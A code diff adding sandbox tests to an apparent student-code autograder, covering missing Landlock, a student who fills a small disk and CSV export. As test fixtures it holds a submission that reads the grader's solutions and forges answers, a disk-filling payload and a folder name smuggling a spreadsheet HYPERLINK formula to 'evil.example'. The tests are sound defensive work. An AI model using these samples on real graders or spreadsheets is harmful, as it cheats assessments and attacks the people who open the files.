@@ -4,16 +4,22 @@ was. The checkout test runs last (file order)."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import importlib.util
+import json
 import os
 import re
 import shutil
+import subprocess
+import sys
+import tempfile
 import time
 from pathlib import Path
 from typing import IO
 
 import pytest
-from adversaries import BATTERY, ROOT, Adversary
+from adversaries import BATTERY, FILLS_THE_DISK, ROOT, Adversary
 
 from autograder.config import Config, load_config
 from autograder.contract import CONTRACT
@@ -170,6 +176,168 @@ def test_a_submission_whose_every_call_hangs_is_graded_within_the_run_budget(
     assert result.score == 0
     assert any("run's time budget of 15 s ran out" in o.message for o in result.outcomes)
     assert workers_left(claimed, since) == []
+
+
+# -- issue 15: Landlock answering ENOSYS, and a class on a small disk ---------------------
+
+NO_LANDLOCK = Path(__file__).with_name("no_landlock.py")
+READS_SOLUTIONS = """
+def add_mul(x, y, z):
+    for secret in {secrets!r}:
+        try:
+            open(secret).read()
+        except OSError:
+            continue
+        return 12.0, (12.0, 12.0, 12.0)  # a forged answer: full marks only if it is right
+    return _reference(x, y, z)
+"""
+needs_root_and_seccomp = pytest.mark.skipif(
+    not CGROUPS or importlib.util.find_spec("pyseccomp") is None,
+    reason="as root on Linux, with pyseccomp (the test extra) and libseccomp",
+)
+
+
+def grade_without_landlock(
+    grader: Path, folder: Path, results: Path, *options: str
+) -> subprocess.CompletedProcess[str]:
+    """`grade --part warmup --fast` of `folder` by the grader in `grader`, with Landlock's
+    system calls answering ENOSYS (tests/sandbox/no_landlock.py)."""
+    command = [sys.executable, str(NO_LANDLOCK), sys.executable, "-m", "autograder", "grade"]
+    command += [str(folder), "--results", str(results), "--part", "warmup", "--fast", *options]
+    return subprocess.run(
+        command, cwd=grader, capture_output=True, text=True, timeout=120, check=False
+    )
+
+
+def reads_solutions(tmp_path: Path, grader: Path) -> Path:
+    folder = tmp_path / "submission"
+    shutil.copytree(ROOT / "solutions", folder)
+    secrets = [str(grader / "solutions" / "warmup.py"), str(grader / "grading.toml")]
+    module = folder / "warmup.py"
+    module.write_text(
+        module.read_text() + "\n_reference = add_mul\n" + READS_SOLUTIONS.format(secrets=secrets)
+    )
+    return folder
+
+
+@needs_root_and_seccomp
+def test_without_landlock_an_official_grade_refuses_a_grader_the_worker_could_read(
+    tmp_path: Path,
+) -> None:
+    results = tmp_path / "results.json"
+    done = grade_without_landlock(ROOT, reads_solutions(tmp_path, ROOT), results)
+    assert done.returncode == 2, done.stderr[-3000:]
+    assert "Landlock is not available here (the kernel answers ENOSYS" in done.stderr
+    assert "--allow-weak-isolation" in done.stderr
+    written = json.loads(results.read_text())
+    assert written["score"] == 0
+    assert "refusing to grade officially" in written["extra_data"]["autograder_error"]
+
+
+@needs_root_and_seccomp
+def test_without_landlock_allowed_weak_isolation_says_what_was_missing(tmp_path: Path) -> None:
+    results = tmp_path / "results.json"
+    submission = reads_solutions(tmp_path, ROOT)
+    done = grade_without_landlock(ROOT, submission, results, "--allow-weak-isolation")
+    assert done.returncode in (0, 1), done.stderr[-3000:]
+    assert "warning: Landlock is not available here" in done.stderr
+    assert "warning: the worker lacked Landlock" in done.stderr
+    worker = json.loads(results.read_text())["extra_data"]["worker"]
+    assert any(line.startswith("Landlock") for line in worker["missing"])
+    assert "ENOSYS" in worker["landlock_missing"]
+    assert str(ROOT / "solutions" / "warmup.py") in worker["exposed"]
+    tests = json.loads(results.read_text())["tests"]
+    assert any(t["score"] < t["max_score"] for t in tests if "add mul" in t["name"])  # it read
+
+
+@needs_root_and_seccomp
+def test_without_landlock_a_grader_folder_of_roots_alone_keeps_solutions_unread(
+    tmp_path: Path,
+) -> None:
+    grader = tmp_path / "grader"  # as Gradescope's run_autograder leaves it: chmod -R go-rwx
+    ignored = shutil.ignore_patterns("__pycache__")
+    for name in ("autograder", "solutions"):
+        shutil.copytree(ROOT / name, grader / name, ignore=ignored)
+    shutil.copy(ROOT / "grading.toml", grader)
+    subprocess.run(["chmod", "-R", "go-rwx", str(grader)], check=True)
+    results = tmp_path / "results.json"
+    done = grade_without_landlock(grader, reads_solutions(tmp_path, grader), results)
+    assert done.returncode == 0, done.stderr[-3000:]
+    assert "kept from the worker by their ownership and modes" in done.stderr
+    written = json.loads(results.read_text())
+    assert all(test["score"] == test["max_score"] for test in written["tests"])  # no read
+    assert written["extra_data"]["worker"]["exposed"] == []
+    assert "landlock" not in " ".join(written["extra_data"]["worker"]["measures"])
+
+
+@needs_root_and_seccomp
+def test_without_landlock_the_disk_filler_writes_nothing_outside_its_bounded_folder(
+    tmp_path: Path,
+) -> None:
+    grader = tmp_path / "grader"
+    for name in ("autograder", "solutions"):
+        shutil.copytree(ROOT / name, grader / name, ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copy(ROOT / "grading.toml", grader)
+    folder = tmp_path / "submission"
+    shutil.copytree(ROOT / "solutions", folder)
+    module = folder / "warmup.py"
+    module.write_text(module.read_text() + "\n" + FILLS_THE_DISK)
+    results = tmp_path / "results.json"
+    done = grade_without_landlock(grader, folder, results)
+    assert done.returncode == 0, done.stderr[-3000:]
+    written = json.loads(results.read_text())
+    assert all(test["score"] == test["max_score"] for test in written["tests"])
+    assert any(m.startswith("private disk") for m in written["extra_data"]["worker"]["measures"])
+
+
+FORMULA = '=HYPERLINK("evil.example?x","click")'
+"""A student folder named like a spreadsheet formula."""
+FILLER = """
+for number in range(64):  # 2 GB in files under the file limit, at import
+    try:
+        with open(f"fill-{number}", "wb") as file:
+            file.write(bytes(32 * 2**20))
+    except OSError:
+        break
+"""
+ON_A_SMALL_DISK = """
+disk="$1"; keep="$2"; shift 2
+mount -t tmpfs -o size=32m tmpfs "$disk" && mkdir "$disk/tmp" || exit 99
+TMPDIR="$disk/tmp" "$@" --out "$disk/out"; code=$?
+cp -r "$disk/out" "$keep/out"
+exit $code
+"""
+"""Runs a command with --out and TMPDIR on a 32 MB tmpfs of a private mount namespace,
+then keeps a copy of OUT."""
+
+
+@pytest.mark.skipif(not CGROUPS or shutil.which("unshare") is None, reason="as root on Linux")
+def test_a_student_who_fills_a_small_disk_costs_the_others_of_the_class_nothing(
+    tmp_path: Path,
+) -> None:
+    classroom = tmp_path / "class"
+    for name in ("alice", "filler", FORMULA):
+        shutil.copytree(ROOT / "solutions", classroom / name)
+    module = classroom / "filler" / "warmup.py"
+    module.write_text(module.read_text() + FILLER)
+    disk = tempfile.mkdtemp(prefix="small-disk-")  # in /tmp: workers can pass tmp_path's
+    try:  # parents, root's alone, neither
+        command = ["unshare", "--mount", "--propagation", "private", "sh", "-c", ON_A_SMALL_DISK]
+        command += ["sh", disk, str(tmp_path)]
+        command += [sys.executable, "-m", "autograder", "grade-all", str(classroom), "--fast"]
+        done = subprocess.run(
+            [*command, "--jobs", "2"], cwd=ROOT, capture_output=True, text=True, timeout=900
+        )
+    finally:
+        os.rmdir(disk)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    with (tmp_path / "out" / "gradebook.csv").open(newline="") as table:
+        rows = {row["student"]: row for row in csv.DictReader(table)}
+    assert sorted(rows) == sorted(["alice", "filler", f"'{FORMULA}"])  # text, not a formula
+    assert {row["status"] for row in rows.values()} == {"graded"}
+    assert len({row["total"] for row in rows.values()}) == 1  # the same code, the same grade
+    filler = json.loads((tmp_path / "out" / "students" / "filler" / "results.json").read_text())
+    assert any(m.startswith("private disk") for m in filler["extra_data"]["worker"]["measures"])
 
 
 def test_the_checkout_is_unchanged_by_the_battery() -> None:
